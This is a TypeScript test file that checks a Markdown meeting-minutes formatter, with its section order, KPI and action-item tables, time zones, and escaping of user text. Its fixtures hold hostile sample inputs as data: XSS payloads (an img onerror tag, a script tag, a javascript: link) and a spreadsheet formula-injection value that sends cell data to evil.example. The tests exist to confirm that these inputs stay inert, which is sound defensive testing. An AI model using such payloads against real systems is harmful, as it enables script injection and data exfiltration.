import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { byTag, findAll, parseHtmlDocument } from './fixtures/htmlDom';
import { SAMPLE_MEETING_URL_BASE, sampleMeeting } from './fixtures/sampleMeeting';
import { escapeMarkdownBlock, escapeMarkdownInline } from './markdownText';
import type { MinutesOptions } from './minutesContent';
import { formatMinutesMarkdown } from './minutesMarkdown';

const options: MinutesOptions = {
  meetingUrlBase: SAMPLE_MEETING_URL_BASE,
  closingOverrides: [{ item: '宿題「-1」に期限がない', reason: '経理部と調整中 | 来週確定' }],
  nextMeeting: { date: '2025-07-08T10:00:00+09:00', text: '同じ会議室' },
};

/** Renders Markdown with a real CommonMark/GFM renderer (marked, raw HTML allowed) and parses the result. */
function render(markdown: string) {
  return parseHtmlDocument(marked.parse(markdown, { async: false, gfm: true }));
}

describe('formatMinutesMarkdown', () => {
  const view = sampleMeeting();
  const markdown = formatMinutesMarkdown(view, options);
  const dom = render(markdown);

  it('has the 議事録 sections in order', () => {
    const order = ['# 議事録', '**日時:**', '**場所:**', '**出席者:**', '**欠席者:**', '## 議題', '## KPI', '## 決定事項', '## 宿題', '## 次回予定', '## 備考'];
    const positions = order.map((marker) => markdown.indexOf(marker));
    expect(positions.every((p) => p >= 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    expect(findAll(dom, byTag('h2')).map((h) => h.text)).toEqual(['議題', 'KPI', '決定事項', '宿題', '次回予定', '備考']);
  });

  it('renders user text as typed: no headings, HTML or extra table cells come from it', () => {
    expect(findAll(dom, byTag('h1')).map((h) => h.text)).toEqual(['議事録: 週次定例, "営業×プロダクト"']);
    expect(findAll(dom, byTag('h3')).map((h) => h.text)).toEqual([
      '1. 先週の宿題の確認',
      '2. KPIレビュー: 受注件数 "未達"',
      '3. # 見出しではない | A|B',
    ]);
    expect(findAll(dom, byTag('img', 'script', 'b', 'pre', 'code', 'blockquote', 'h4'))).toEqual([]);
    for (const table of findAll(dom, byTag('table'))) {
      const widths = findAll(table, byTag('tr')).map((tr) => tr.children.length);
      expect(new Set(widths).size).toBe(1);
    }
  });

  it('prints the header facts, attendees and absentees', () => {
    const facts = findAll(dom, byTag('li')).slice(0, 7).map((li) => li.text);
    expect(facts).toEqual([
      '日時: 2025年7月1日(火) 10:02〜11:05（予定: 2025年7月1日(火) 10:00）',
      'タイムゾーン: 日本標準時 (Asia/Tokyo)',
      '場所: 本社 3F 会議室A, Zoom',
      '関係部署: 営業部、プロダクト部',
      '出席者: 山田 太郎（営業部）、佐藤 花子（プロダクト部）、<b>Kim</b> & "Lee"（R&D）',
      '欠席者: 鈴木 一郎（経理部）',
      '会議のページ: https://suishin.example.co.jp/meetings/mtg-2025-07-01',
    ]);
    const link = findAll(dom, byTag('a'))[0];
    expect(link?.attrs.href).toBe('https://suishin.example.co.jp/meetings/mtg-2025-07-01');
  });

  it('shows notes with their line breaks and planned vs actual time', () => {
    expect(markdown).toContain('**予定時間:** 10分 / **実績時間:** 12分30秒 (超過 +2分30秒)');
    expect(markdown).toContain('**予定時間:** 5分 / **実績時間:** —');
    const paragraphs = findAll(dom, byTag('p')).map((p) => p.text);
    expect(paragraphs).toContain(
      '- 見積もりは提出済み, 先方回答待ち\n# これは見出しではない\n| 表 | ではない |',
    );
    expect(paragraphs).toContain('\u00a0\u00a0\u00a0\u00a0インデントされた行\n1. 番号付き\n<img src=x onerror=alert(1)>');
  });

  it('tabulates KPIs with status, and action items with owner and due date', () => {
    const [kpiTable, actionTable] = findAll(dom, byTag('table'));
    const rows = (table: typeof kpiTable) => findAll(table!, byTag('tr')).map((tr) => tr.children.map((c) => c.text.trim()));
    expect(rows(kpiTable)).toEqual([
      ['指標', '目標', '実績', '前回', '前回比', '状況', '担当', 'コメント', '対策'],
      ['受注件数', '120件', '98件', '90件', '+8件', '未達', '佐藤 花子', '大型案件が8月にずれ込み | 要フォロー', '+81 3-1234-5678 に折り返し電話'],
      ['解約率', '2%', '2.1%', '2.4%', '\u22120.3%', '注意', '山田 太郎', '', ''],
      ['NPS', '40', '45', '—', '—', '順調', '', '=1+1', ''],
    ]);
    expect(rows(actionTable)).toEqual([
      ['#', '内容', '担当', '期限', '状況', '登録先'],
      ['1', '=HYPERLINK("http://evil.example/?q="&A1,"詳細はこちら")', '山田 太郎（営業部）', '2025年7月15日(火)', '未着手', ''],
      ['2', '+81 3-1234-5678 に折り返し電話', '佐藤 花子（プロダクト部）', '2025年7月31日(木)', '対応中', ''],
      ['3', '-1', '@SUM(1+1)（経理部）', '期限なし', '未着手', ''],
      ['4', '先頭タブ, "引用" と 改行のある宿題', '鈴木 一郎（経理部）', '2025年8月1日(金)', '完了', 'Jira OPS-7'],
      ['5', '取り下げた宿題', '山田 太郎（営業部）', '2025年7月20日(日)', '取り下げ', ''],
    ]);
  });

  it('lists decisions with decider, rationale and what they supersede; then next meeting and overrides', () => {
    const items = findAll(dom, byTag('ol'))[0]!.children.map((li) => li.text.replace(/\s+/g, ' ').trim());
    expect(items[0]).toContain('価格改定を8月1日から実施する, 対象は全プラン');
    expect(items[0]).toContain('決定者: 佐藤 花子');
    expect(items[0]).toContain('見直し日: 2025年9月30日(火)');
    expect(items[1]).toContain('置き換える決定: 価格改定を8月1日から実施する, 対象は全プラン');
    expect(markdown).toContain('## 次回予定\n\n2025年7月8日(火) 10:00　同じ会議室\n');
    expect(markdown).toContain('- 宿題「-1」に期限がない — **理由:** 経理部と調整中 \\| 来週確定');
  });

  it('says 未定 when no next meeting is given, and writes English minutes for English meetings', () => {
    expect(formatMinutesMarkdown(view, { meetingUrlBase: SAMPLE_MEETING_URL_BASE })).toContain('## 次回予定\n\n未定\n');
    const english = sampleMeeting();
    english.meta.language = 'en';
    // Language never decides the zone: English minutes of the workspace print Tokyo times too, and name the zone.
    const md = formatMinutesMarkdown(english, { meetingUrlBase: SAMPLE_MEETING_URL_BASE });
    expect(md).toContain('# Minutes: ');
    expect(md).toContain('- **Date and time:** Tue, Jul 1, 2025, 10:02 – 11:05 (scheduled: Tue, Jul 1, 2025, 10:00)');
    expect(md).toContain('- **Time zone:** Japan Standard Time (Asia/Tokyo)');
    const utc = formatMinutesMarkdown(english, { meetingUrlBase: SAMPLE_MEETING_URL_BASE, timeZone: 'UTC' });
    expect(utc).toContain('- **Date and time:** Tue, Jul 1, 2025, 01:02 – 02:05 (scheduled: Tue, Jul 1, 2025, 01:00)');
    expect(utc).toContain('- **Time zone:** Coordinated Universal Time (UTC)');
    const sections = ['## Agenda', '## KPIs', '## Decisions', '## Action items', '## Next meeting'].map((s) => md.indexOf(s));
    expect(sections.every((p) => p > 0) && [...sections].sort((a, b) => a - b).join() === sections.join()).toBe(true);
    expect(md).toContain('**Planned:** 10 min / **Actual:** 12 min 30 s (over +2 min 30 s)');
  });
});

describe('Markdown escaping', () => {
  it.each([
    '# heading',
    '> quote',
    '- bullet',
    '+ bullet',
    '* bullet',
    '1. ordered',
    '3) ordered',
    '===',
    '---',
    '`code`',
    '**bold** _em_ ~~strike~~',
    '[link](javascript:alert(1))',
    '<script>alert(1)</script>',
    '&lt;not an entity&gt;',
    'a | b | c',
    '$x^2$',
    'back\\slash',
  ])('renders %j back as the same text', (text) => {
    const dom = render(`${escapeMarkdownInline(text)}\n`);
    expect(dom.text.trim()).toBe(text);
    expect(findAll(dom, byTag('a', 'script', 'h1', 'blockquote', 'ul', 'ol', 'code', 'strong', 'em', 'del', 'hr'))).toEqual([]);
  });

  it('keeps line breaks and indentation of blocks without making code blocks', () => {
    const text = '    indented\n# not a heading\n\nnext paragraph\\';
    const dom = render(escapeMarkdownBlock(text));
    expect(findAll(dom, byTag('p')).map((p) => p.text)).toEqual([
      '\u00a0\u00a0\u00a0\u00a0indented\n# not a heading',
      'next paragraph\\',
    ]);
    expect(findAll(dom, byTag('pre', 'h1'))).toEqual([]);
  });
});
